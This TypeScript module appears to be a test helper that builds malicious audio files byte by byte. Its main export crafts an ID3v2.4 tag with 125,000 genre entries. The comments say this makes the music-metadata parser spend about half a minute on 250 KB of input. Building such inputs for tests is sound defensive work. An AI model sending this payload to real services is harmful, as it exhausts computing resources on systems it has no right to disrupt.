/** Malicious files, made byte by byte. */

/** A size in ID3's encoding: four bytes of seven bits each. */
export const syncSafe = (size: number): Buffer =>
  Buffer.from([(size >> 21) & 127, (size >> 14) & 127, (size >> 7) & 127, size & 127]);

/** An ID3v2.4 tag with one text frame. */
function id3(frame: string, text: string): Buffer {
  const latin1 = Buffer.concat([Buffer.from([0]), Buffer.from(text, 'latin1')]);
  const body = Buffer.concat([Buffer.from(frame), syncSafe(latin1.length), Buffer.alloc(2), latin1]);
  return Buffer.concat([Buffer.from('ID3\u0004\0\0'), syncSafe(body.length), body]);
}

/** 250 KB that `music-metadata` parses for half a minute: 125,000 genres, and it copies the list of genres for each of them. */
export const manyGenres = (): Buffer => id3('TCON', 'a\0'.repeat(125_000));
